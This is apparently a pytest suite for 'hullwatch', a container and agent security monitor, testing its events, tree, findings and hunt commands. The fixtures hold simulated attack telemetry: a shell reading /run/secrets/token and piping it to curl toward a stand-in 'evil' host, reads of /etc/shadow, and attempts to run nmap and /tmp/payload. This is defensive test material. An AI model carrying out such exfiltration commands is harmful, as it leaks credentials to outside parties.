"""The commands over a small store: what they print, and with which code they end."""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from hullwatch.cli import COMMANDS, main
from hullwatch.cli.errors import ExitCode
from hullwatch.context.call import Call
from hullwatch.control import Control
from hullwatch.sensor.wire import StrKind
from hullwatch.store.state import CountRow
from support.enriched import CONTAINER, WALL, Builder
from support.stores import Clock, finding, opens, writer

ADDRESS = b"\x02\0\xbb\x01\x08\x08\x08\x08"
NASTY = b"/tmp/a\n\x1b[2J\xe2\x80\xae\xff"


def attack(b: Builder):
    """An agent starts a shell that reads a token and sends it out."""
    addr = int(StrKind.ADDR)
    server = b.process(99, name="python3", argv=("python3", "server.py"))
    shell = b.process(100, server, name="sh", argv=("sh", "-c", "cat \x1b[31m | curl"))
    curl = b.process(101, shell, name="curl", argv=("curl", "http://evil"), marks=4)
    b.event("task", server, "/usr/bin/python3").event("exec", shell, "/bin/sh")
    for number in range(5):
        quiet = b.process(200 + number, shell, name="true", argv=("true",))
        b.event("exec", quiet, "/bin/true").event("exit", quiet)
    for number in range(30):
        b.event("open", server, f"/usr/lib/python3/x{number}.py")
    b.event("open", shell, "/run/secrets/token").event("open", shell, NASTY, flags=0o101)
    b.event("exec", curl, "/usr/bin/curl", num2=5)
    b.event("connect", curl, ADDRESS, kind=addr, dest="evil.example", ret=-115)
    b.event("flow", curl, ADDRESS, kind=addr, num=5000, num2=100)
    b.event("ptrace", shell).event("exit", shell, flags=9)
    b.event("open", b.process(7, workload=0, cgroup=1, name="sshd"), "/etc/ssh/sshd_config")
    return b.build(), shell


@pytest.fixture
def store(tmp_path, monkeypatch):
    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
    b = Builder()
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
    enriched, shell = attack(b)
    w.write(enriched)
    w.add_counts([CountRow(77, "open", "/etc/ld.so.cache", 900)])
    w.add_findings([finding("f1abc", count=3, proc=shell.key, output="bad \x1b[31m")])
    w.add_findings([finding("f2", priority="Notice", rule="Small", container_full_id="d" * 64)])
    w.flush()
    yield tmp_path
    w.close()


class Run:
    """Calls the command line in this process; `both` has what it wrote last."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys
        self.both = capsys.readouterr()

    def __call__(self, *argv: str, code: int = 0) -> str:
        self._capsys.readouterr()
        ended = main(list(argv))
        self.both = self._capsys.readouterr()
        assert ended == code, self.both
        assert "Traceback" not in self.both.err
        assert "\x1b" not in self.both.out + self.both.err
        return self.both.out


@pytest.fixture
def run(capsys):
    return Run(capsys)


def lines(out: str) -> list[dict]:
    return [json.loads(line) for line in out.splitlines()]


# --- events -------------------------------------------------------------------------------


def test_events_newest_last_and_escaped(store, run):
    out = run("events", "--container", "agent").splitlines()
    assert "killed by signal 9" in out[-1]
    assert any("/tmp/a\\n\\x1b[2J\\u202e\\xff (write, create)" in line for line in out)
    assert any("evil.example (8.8.8.8:443) = EINPROGRESS" in line for line in out)
    assert not any("sshd" in line for line in out)


def test_events_filters(store, run):
    assert {row["class"] for row in lines(run("events", "--class", "exec", "--json"))} == {"exec"}
    assert {row["pid"] for row in lines(run("events", "--pid", "100", "--json"))} == {100}
    assert len(lines(run("events", "--container", CONTAINER[:12], "--json"))) == 49
    assert run("events", "--until", "2020-01-01") == ""
    assert run("events", "--since", "10m") == ""


def test_events_limit_keeps_the_newest_and_says_so(store, run):
    rows = lines(run("events", "-n", "2", "--json"))
    assert [row["class"] for row in rows] == ["exit", "open"]
    assert "older events left out" in run.both.err


def test_events_follow_is_of_what_comes(store, run):
    run("events", "--follow", "--since", "1h", code=ExitCode.USAGE)
    assert "--follow shows what happens from now on" in run.both.err


def test_nothing_to_show_is_said(store, run):
    assert run("events", "--pid", "4000000") == ""
    assert "no such events are stored" in run.both.err
    assert run("findings", "--min-severity", "emergency") == ""
    assert "no such findings" in run.both.err
    assert run("events", "--pid", "4000000", "--json") == ""
    assert run.both.err == ""


def test_events_follow_sees_what_comes_and_only_that(tmp_path):
    w = writer(tmp_path, seal_rows=30)
    b = Builder()
    w.put_workloads([b.workloads.workload(1)])
    w.write(opens(b, 5, "old"))
    w.flush()
    follower = subprocess.Popen(
        [sys.executable, "-m", "hullwatch", "events", "-f", "--json", "--store", str(tmp_path)],
        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert follower.stdout
    got: list[dict] = []
    reader = threading.Thread(
        target=lambda: [got.append(json.loads(line)) for line in follower.stdout], daemon=True
    )
    reader.start()
    deadline = time.monotonic() + 60
    sent = 0
    try:
        # From the first one it shows on, none is missing, over several tails.
        while len(got) < 100:
            assert time.monotonic() < deadline
            w.write(opens(b, 10, f"new{sent:04}-"))
            w.flush()
            sent += 10
            time.sleep(0.05)
    finally:
        follower.kill()
        w.close()
    names = [row["object"] for row in got[:100]]
    assert not any("old" in name for name in names)
    start = int(names[0].removeprefix("/data/new")[:4])
    want = [f"/data/new{n // 10 * 10:04}-{n % 10}" for n in range(start, start + 100)]
    assert names == want
    assert got[0]["container"] == "agent"


# --- tree ---------------------------------------------------------------------------------


def test_tree_tells_the_runtimes_set_up_from_the_workloads_deeds(tmp_path, run, monkeypatch):
    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
    b = Builder()
    init = b.process(50, name="app", argv=("app",))
    child = b.process(51, init, name="runc", argv=("runc",))
    b.event("mount", init, "/proc").event("open", init, "/etc/shadow").event("exec", init, "/app")
    b.event("mount", init, "/evil")
    # One whose exec is not in this window, and that has a runtime's name: nothing is hidden.
    b.event("mount", child, "/evil/too")
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
    w.write(b.build())
    w.close()
    out = run("tree", "agent")
    assert "the runtime's own set-up, 2 events" in out
    assert "shadow" not in out
    assert "mount    /evil\n" in out and "mount    /evil/too" in out
    assert "open /etc/shadow" in run("tree", "agent", "--files")


def test_tree_draws_the_story(store, run):
    out = run("tree", "agent")
    assert "python3[99]  python3 server.py" in out
    assert "files    30 libraries and the like, read or looked for" in out
    assert "secret   open /run/secrets/token" in out
    assert "connect  evil.example (8.8.8.8:443), 4.9 KiB out, 100 B in" in out
    assert "true[200]  true  x5" in out
    assert "FINDING  Critical: Read of a secret  x3  (f1abc)" in out
    assert "program was written in the container" in out
    assert "900 x open /etc/ld.so.cache" in out
    assert "signal 9" in out
    shell = next(line for line in out.splitlines() if "sh[100]" in line)
    curl = next(line for line in out.splitlines() if "curl[101]" in line)
    assert curl.index("curl[") > shell.index("sh[")


def test_tree_tells_programs_that_could_not_be_run(tmp_path, run, monkeypatch):
    """A search along PATH is one deed, and none where it ended in the program."""
    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
    b = Builder()
    shell = b.process(60, name="sh", argv=("sh",))
    listing = b.process(61, shell, name="ls", argv=("ls", "-l"), exepath="/bin/busybox")
    child = b.process(62, shell, name="sh", argv=("sh",))
    b.event("task", shell, "/bin/sh").event("fork", shell, num=listing.key)
    for folder in ("/usr/local/bin", "/usr/bin"):
        b.event("exec_failed", listing, f"{folder}/ls", "ls", ret=-errno.ENOENT)
    b.event("exec", listing, "/bin/busybox").event("fork", shell, num=child.key)
    for folder in ("/usr/local/bin", "/usr/bin", "/bin"):
        b.event("exec_failed", child, f"{folder}/nmap", "nmap", ret=-errno.ENOENT)
    b.event("exec_failed", child, "/tmp/payload", "./payload", ret=-errno.EACCES)
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
    w.write(b.build())
    w.close()
    out = run("tree", "agent")
    assert "ls[61]  ls -l" in out
    assert "exec_failed nmap  x3" in out and "exec_failed /tmp/payload" in out
    assert out.count("exec_failed") == 2
    shown = run("events", "--class", "exec_failed")
    assert "/usr/bin/ls = ENOENT" in shown and "/tmp/payload = EACCES" in shown


def test_calls_by_time_are_candidates(tmp_path, run, monkeypatch):
    """What OTLP tells of a process in hindsight, said as that: in the tree and with a finding."""
    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
    b = Builder()
    agent = b.process(60, name="agent", argv=("agent",))
    child = b.process(61, agent, name="cat", argv=("cat",))
    other = b.process(70, name="other", argv=("other",))
    b.event("exec", agent, "/bin/agent").event("exec", other, "/bin/other")
    b.clock += 10**9
    begin = WALL + b.clock
    b.event("exec", child, "/bin/cat").event("open", child, "/etc/shadow")
    moment = WALL + b.clock
    b.event("open", other, "/etc/passwd").event("open", agent, "/by/the/gateway", span=5)
    end = WALL + b.clock
    b.clock += 10**9
    b.event("open", agent, "/after")
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
    w.write(b.build())
    call = Call(
        id=7, kind="tool", source="otlp", name="lookup", begin=begin, end=end, pid=60, cgroup=77
    )
    w.put_calls([call], {})
    found = {"time": moment, "first": moment, "last": moment}
    w.add_findings([finding("f1", **found, proc=child.key), finding("f2", **found, proc=other.key)])
    w.close()
    drawn = run("tree", "agent")
    assert drawn.count("call     lookup (0000000000000007), by its time") == 1
    (story,) = lines(run("tree", "agent", "--json"))
    assert {one["name"]: (one["calls"], one["calls_by_time"]) for one in story["processes"]} == {
        "agent": ([], []),
        "cat": ([], ["lookup (0000000000000007)"]),
        "other": ([], []),
    }
    shown = run("findings", "show", "f1")
    assert "perhaps    lookup (0000000000000007), by its time" in shown
    assert "hullwatch call 0000000000000007" in shown
    assert lines(run("findings", "show", "f1", "--json"))[0]["calls_by_time"]
    assert "perhaps" not in run("findings", "show", "f2")
    (told,) = lines(run("calls", "--json"))
    assert told["findings"] == ["Read of a secret"] and told["certain"] == 2
    (drawn,) = lines(run("call", "0000000000000007", "--json"))
    assert [one["findings"][0]["id"] for one in drawn["processes"] if one["findings"]] == ["f1"]
    asked = run("hunt", "SELECT DISTINCT object FROM calls_by_time WHERE class = 'open'")
    assert "/etc/shadow" in asked and "gateway" not in asked and "passwd" not in asked


def test_labels_where_people_look(tmp_path, run, monkeypatch):
    """In the tree, in the events, in what is hunted."""
    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
    b = Builder()
    shell = b.process(60, name="sh", argv=("sh",))
    cat = b.process(61, shell, name="cat", argv=("cat",))
    b.event("exec", shell, "/bin/sh").event("exec", cat, "/bin/cat")
    b.event("open", cat, "/srv/.env", labels=1)
    b.event("connect", cat, "8.8.8.8:443", labels=1 | 1 << 2 | 1 << 5)
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
    w.write(b.build())
    w.close()
    drawn = run("tree", "agent")
    assert drawn.count("labels   ") == 1 and "labels   secret, untrusted, label-5" in drawn
    (story,) = lines(run("tree", "agent", "--json"))
    assert {one["name"]: one["labels"] for one in story["processes"]} == {
        "sh": [],
        "cat": ["secret", "untrusted", "label-5"],
    }
    shown = [line for line in run("events").splitlines() if line.endswith("]")]
    assert [line.rpartition("  ")[2] for line in shown] == [
        "[secret]",
        "[secret, untrusted, label-5]",
    ]
    assert [row["label_names"] for row in lines(run("events", "--json"))][-2:] == [
        ["secret"],
        ["secret", "untrusted", "label-5"],
    ]
    found = run("hunt", "SELECT object FROM events WHERE list_contains(label_names, 'untrusted')")
    assert "8.8.8.8:443" in found and ".env" not in found


def test_tree_as_json(store, run):
    (story,) = lines(run("tree", "agent", "--json"))
    server, shell, *others = story["processes"]
    assert (server["above"], shell["above"]) == (None, server["proc"])
    assert [(one["name"], one["above"]) for one in others] == [
        ("true", shell["proc"]),
        ("curl", shell["proc"]),
    ]
    assert shell["findings"][0]["id"] == "f1abc"
    assert story["workload"]["image"] == "example/agent:1"


def test_tree_of_a_deep_chain(tmp_path, run):
    b = Builder()
    w = writer(tmp_path)
    w.put_workloads([b.workloads.workload(1)])
    process = None
    for pid in range(1, 2000):
        process = b.process(pid, process, name=f"p{pid}")
        b.event("exec", process, "/bin/x")
    w.write(b.build())
    w.close()
    for more in ([], ["--json"]):
        assert "p1999" in run("tree", "agent", "--store", str(tmp_path), *more)


def test_tree_without_anything(store, run):
    for command in (["tree", "nothing"], ["events", "--container", "nothing"]):
        run(*command, code=ExitCode.NO)
        assert "'nothing': not known here; known: agent" in run.both.err
    # Neither findings nor counts of another time are told.
    run("tree", "agent", "--until", "2001-01-01", code=ExitCode.NO)
    assert "nothing is stored of it in that time" in run.both.err
    now = run("tree", "agent", "--since", "1h")  # the store's counts are of now
    assert "900 x open" in now
    assert "Read of a secret" not in now
    assert "Read of a secret" in run("tree", "agent", "--until", "1s")


# --- findings -----------------------------------------------------------------------------


def test_findings(store, run):
    out = run("findings")
    assert "Read of a secret x3: bad \\x1b[31m  [f1abc]" in out
    assert len(out.splitlines()) == 2
    assert len(lines(run("findings", "--json", "--min-severity", "warning"))) == 1
    assert [row["id"] for row in lines(run("findings", "--json", "--container", "agent"))] == [
        "f1abc"
    ]
    run("findings", "--min-severity", "terrible", code=ExitCode.USAGE)


def test_a_finding_explains_itself(store, run):
    out = run("findings", "show", "f1")
    assert "cat[100]  cat x  <- did it" in out
    assert "3 times" not in out or "to" in out
    assert "T1552" in out
    assert f"hullwatch tree {CONTAINER[:12]}" in out
    assert 'hullwatch rules explain "Read of a secret"' in out
    run("findings", "show", "f", code=ExitCode.NO)
    assert "several begin so" in run.both.err
    run("findings", "show", "nope", code=ExitCode.NO)
    run("findings", "show", code=ExitCode.USAGE)


def test_a_sequence_is_shown_with_its_steps(tmp_path, run):
    steps = [
        {"step": "read", "time": 10**18, "event": "open", "object": "/token\x1b[2J", "pid": 7,
         "process": "cat /token"},
        {"step": "leave", "time": 10**18 + 10**9, "event": "connect", "object": "1.1.1.1:9",
         "pid": 8, "process": "curl"},
    ]  # fmt: skip
    w = writer(tmp_path)
    w.add_findings([finding("story", steps=steps)])
    out = run("findings", "show", "story", "--store", str(tmp_path)).splitlines()
    w.close()
    assert [line.split() for line in out if " by " in line] == [
        "steps read: 01:46:40.000 open /token\\x1b[2J by cat /token [7]".split(),
        "leave: 01:46:41.000 connect 1.1.1.1:9 by curl [8]".split(),
    ]


@pytest.mark.parametrize("agent", [True, False], ids=["from the agent", "from the store"])
def test_findings_follow(tmp_path, agent):
    clock = Clock()
    w = writer(tmp_path, clock)
    w.add_findings([finding("old")])
    control = Control(tmp_path / "control.sock", dict) if agent else None
    follower = subprocess.Popen(
        [sys.executable, "-m", "hullwatch", "findings", "-f", "--json", "--store", str(tmp_path)],
        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert follower.stdout
    assert follower.stderr
    if control:
        deadline = time.monotonic() + 60
        while not control.wants("findings"):
            assert time.monotonic() < deadline
            time.sleep(0.01)
    else:
        assert "watching the store" in follower.stderr.readline()
    w.add_findings([finding("new")])
    if control:
        control.publish("findings", json.dumps(finding("new")).encode())
    try:
        assert json.loads(follower.stdout.readline())["id"] == "new"
    finally:
        follower.kill()
        if control:
            control.close()
        w.close()


# --- hunt, status, the rest -----------------------------------------------------------------


def test_hunt_formats(store, run):
    sql = "SELECT class, count(*) n FROM events WHERE pid = 101 GROUP BY ALL ORDER BY class"
    assert run("hunt", sql).splitlines()[0].split() == ["class", "n"]
    assert lines(run("hunt", sql, "--json"))[0] == {"class": "connect", "n": 1}
    assert run("hunt", sql, "--csv").splitlines()[:2] == ["class,n", "connect,1"]
    assert "'=1+1" in run("hunt", "SELECT '=1+1' x", "--csv")
    run("hunt", "SELECT * FROM events", "-n", "3")
    assert "more rows left out: the first 3" in run.both.err
    assert "dest_name" in run("hunt", "--schema")


def test_hunt_shows_every_type_and_its_json_is_json(store, run):
    def constant(name):
        raise AssertionError(f"{name} is no JSON")

    sql = (
        "SELECT 1/0 a, 'nan'::DOUBLE b, sum(n) c, 2.5 d, {'t': TIMESTAMPTZ '2026-01-02', 'l': [1]}"
        " e, map{'k': chr(27)} f, INTERVAL '1 day -90 seconds' g, 'ab'::BLOB h, [DATE '2026-01-02']"
        " i, true j, NULL k FROM range(3) r(n)"
    )
    (line,) = run("hunt", sql, "--json").splitlines()
    assert list(json.loads(line, parse_constant=constant).values()) == [
        None,
        None,
        3,
        2.5,
        {"t": "2026-01-02T00:00:00.000000Z", "l": [1]},
        {"k": "\x1b"},
        "1 days -00:01:30",
        "ab",
        ["2026-01-02"],
        True,
        None,
    ]
    for form in ([], ["--csv"]):
        out = run("hunt", sql, *form)
        assert "2026-01-02T00:00:00.000000Z" in out
        assert "datetime" not in out
        assert "Decimal" not in out
        assert "MonthDayNano" not in out


def test_hunt_limits_are_checked(store, run):
    for memory in ("lots", "0GB", "-1GB", "1", ""):
        run("hunt", "SELECT 1", "--memory", memory, code=ExitCode.USAGE)
        assert "such as 500MB or 4GB" in run.both.err
    for memory in ("500MB", "1.5 GiB", "900mib"):
        run("hunt", "SELECT 1", "--memory", memory)
    run("hunt", "SELECT 1", "--timeout", "0", code=ExitCode.USAGE)
    run("hunt", "SELECT 1", "--json", "--csv", code=ExitCode.USAGE)


def test_hunt_errors(store, run):
    run("hunt", "SELEC", code=ExitCode.QUERY)
    assert run.both.err.count("\n") == 1
    run("hunt", code=ExitCode.USAGE)


def test_status_without_an_agent(store, run):
    out = run("status", code=ExitCode.AGENT)
    assert "no agent is running here" in out
    assert "50 events" in out
    assert "losses    none" in out


def test_status_with_an_agent(store, run):
    control = Control(store / "control.sock", lambda: {"tier": "lsm", "rss_bytes": 90 << 20})
    out = run("status")
    assert "90.0 MiB" in out
    (found,) = lines(run("status", "--json"))
    assert found["agent"]["tier"] == "lsm"
    assert found["store"]["findings"] == 2
    assert found["writer_pid"] == os.getpid()
    control.close()


def test_status_says_which_rights_the_agent_has(store, run):
    said = {"held": ["CAP_DAC_READ_SEARCH"], "no_new_privs": True, "problems": []}
    control = Control(store / "control.sock", lambda: {"tier": "lsm", "privileges": said})
    assert "rights    CAP_DAC_READ_SEARCH; can gain no others\n" in run("status")
    said |= {"held": [], "no_new_privs": False, "problems": ["could not give up \x1b[2J"]}
    out = run("status")
    assert "rights    none of root's; could gain others; could not give up \\x1b[2J\n" in out
    control.close()


def test_status_says_what_policy_holds(store, run):
    none = {"generation": 0, "problem": "no set is there", "unheld": {}}
    held = {
        "generation": 2,
        "version": "8c1d" * 16,
        "policies": 5,
        "guarded": 1,
        "answers": 812,
        "filled_seconds": 0.25,
        "problem": "",
        "unheld": {"by-digest": "why \x1b[2J"},
        "verdicts_lost": 3,
    }
    said = none
    control = Control(store / "control.sock", lambda: {"tier": "lsm", "policy": said})
    assert "policy    none is held in the kernel: `hullwatch policy apply`\n" in run("status")
    said = held
    out = run("status")
    assert "set 8c1d8c1d8c1d holds 1 container: 5 policies, 812 answers filled in 0.25 s\n" in out
    assert "by-digest is not asked in the kernel: why \\x1b[2J\n" in out
    assert "3 verdicts could not be logged" in out
    control.close()


def test_errors_are_one_line_with_a_mend(tmp_path, run):
    for command in (["events"], ["findings"], ["hunt", "SELECT 1"], ["tree", "x"], ["status"]):
        run(*command, "--store", str(tmp_path / "none"), code=ExitCode.STORE)
        assert run.both.err.count("\n") == 1
        assert "no store here; start `hullwatch up`" in run.both.err


def test_usage_errors(store, run):
    run("events", "--class", "nope", code=ExitCode.USAGE)
    for command in (["events"], ["findings"], ["tree", "agent"], ["hunt", "SELECT 1"]):
        run(*command, "--since", "yesterday-ish", code=ExitCode.USAGE)
        assert "Invalid value for --since: 'yesterday-ish'" in run.both.err
    run("up", "--max-age", "forever", code=ExitCode.USAGE)
    assert "Invalid value for --max-age" in run.both.err
    run("up", "--max-bytes", "-5", code=ExitCode.USAGE)
    for option, value, why in (
        ("--trusted", "198.51.100.1/24", "has host bits set"),
        ("--trusted", "example.com", "does not appear to be"),
        ("--labels", "secret,public", "choose from secret, private, untrusted"),
        ("--private", "/srv/kundén/**", "only ASCII"),
    ):
        run("up", option, value, code=ExitCode.USAGE)
        assert option in run.both.err and why in run.both.err
    run("up", "--no-files", "--approval-webhook", "https://h.example/", code=ExitCode.USAGE)
    assert "needs --enforce and --files" in run.both.err
    run("guard", "--approval-link-as", "oncall", code=ExitCode.USAGE)
    assert "needs --approval-webhook" in run.both.err
    run("record", "x", "--seconds", "-1", code=ExitCode.USAGE)
    for words in (["f1"], ["list", "f1"], ["show"], ["show", "f1", "f2"]):
        run("findings", *words, code=ExitCode.USAGE)
    run("nope", code=ExitCode.USAGE)


def test_version(run):
    from hullwatch import __version__

    assert run("--version") == f"hullwatch {__version__}\n"


def test_help_of_every_command(run):
    import importlib.util

    for command, module in COMMANDS.items():
        if importlib.util.find_spec(module):
            assert "Usage:" in run(command, "--help")


def test_a_closed_pipe_is_no_error(store):
    shell = subprocess.run(
        ["sh", "-c", f"{sys.executable} -m hullwatch events -n 50 | head -1"],
        env=os.environ
        | {
            "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src"),
            "HULLWATCH_STORE": str(store),
        },
        capture_output=True,
        text=True,
        check=False,
    )
    assert shell.stdout.count("\n") == 1
    assert "Traceback" not in shell.stderr
    assert "Broken" not in shell.stderr


@pytest.mark.parametrize("command", [["status"], ["findings", "--json"], ["--help"]], ids=" ".join)
def test_an_answer_that_cannot_be_written_is_an_error(store, command):
    if not os.path.exists("/dev/full"):
        pytest.skip("needs /dev/full")
    with open("/dev/full", "w") as full:
        ended = _hullwatch(*command, stdout=full)
    assert ended.returncode == ExitCode.NO
    assert ended.stderr == "hullwatch: the answer cannot be written: No space left on device\n"


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_terminal_that_lacks_letters_ends_no_command(store, encoding):
    sql = "SELECT 'ä→\U0001f600' x"
    for command in (["hunt", sql], ["hunt", sql, "--csv"], ["hunt", "--schema"], ["tree", "agent"]):
        ended = _hullwatch(*command, PYTHONIOENCODING=encoding)
        assert (ended.returncode, ended.stderr) == (0, ""), command
        if sql in command:
            assert r"\u2192\U0001f600" in ended.stdout


def test_without_rights_each_command_says_so(tmp_path, run, monkeypatch):
    """As the kernel answers who may not look into a folder: root may everywhere."""
    closed = tmp_path / "closed"
    exists = Path.exists

    def refuse(path: Path) -> bool:
        if path.is_relative_to(closed):
            raise PermissionError(13, "Permission denied", str(path))
        return exists(path)

    monkeypatch.setattr(os, "access", lambda *_, **__: False)
    monkeypatch.setattr(Path, "exists", refuse)
    for command, code in (
        (["status", "--store", str(closed)], ExitCode.STORE),
        (["findings", "--store", str(closed)], ExitCode.STORE),
        (["hunt", "SELECT 1", "--store", str(closed)], ExitCode.STORE),
        (["rules", "check", str(closed / "x.yaml")], ExitCode.SENSOR),
        (["rules", "list", "--rules", str(closed)], ExitCode.SENSOR),
        (["record", str(closed / "capture")], ExitCode.SENSOR),
    ):
        run(*command, code=code)
        assert run.both.err.count("\n") == 1
        assert "permission denied; run as root" in run.both.err


def _hullwatch(
    *command: str, stdout=subprocess.PIPE, **environment: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "hullwatch", *command],
        env=os.environ
        | {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")}
        | environment,
        stdout=stdout,
        stderr=subprocess.PIPE,
        encoding="latin-1" if environment else "utf-8",
        check=False,
    )


_COMPLETE = r"""
eval "$SCRIPT"
for words in "f" "rules e" "findings --min" "events --cl"; do
    COMP_WORDS=(hullwatch $words)
    COMP_CWORD=$((${#COMP_WORDS[@]} - 1))
    _hullwatch_completion hullwatch
    echo "${COMPREPLY[@]}"
done
"""


def test_bash_completes_commands_and_options(tmp_path):
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("needs bash")
    program = tmp_path / "hullwatch"
    program.write_text(f'#!/bin/sh\nexec {sys.executable} -m hullwatch "$@"\n')
    program.chmod(0o755)
    environment = os.environ | {
        "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}",
        "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src"),
        "_TYPER_COMPLETE_TEST_DISABLE_SHELL_DETECTION": "1",
    }
    script = subprocess.run(
        [program, "--show-completion", "bash"],
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    shown = subprocess.run(
        [bash, "--norc", "-c", _COMPLETE],
        env=environment | {"SCRIPT": script},
        capture_output=True,
        text=True,
        check=True,
    )
    assert shown.stdout.split() == ["findings", "explain", "--min-severity", "--class"], shown


def test_completion_for_each_shell():
    for shell in ("bash", "zsh", "fish"):
        shown = subprocess.run(
            [sys.executable, "-m", "hullwatch", "--show-completion", shell],
            env=os.environ
            | {
                "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src"),
                "_TYPER_COMPLETE_TEST_DISABLE_SHELL_DETECTION": "1",
            },
            capture_output=True,
            text=True,
            check=False,
        )
        assert "hullwatch" in shown.stdout, shown.stderr
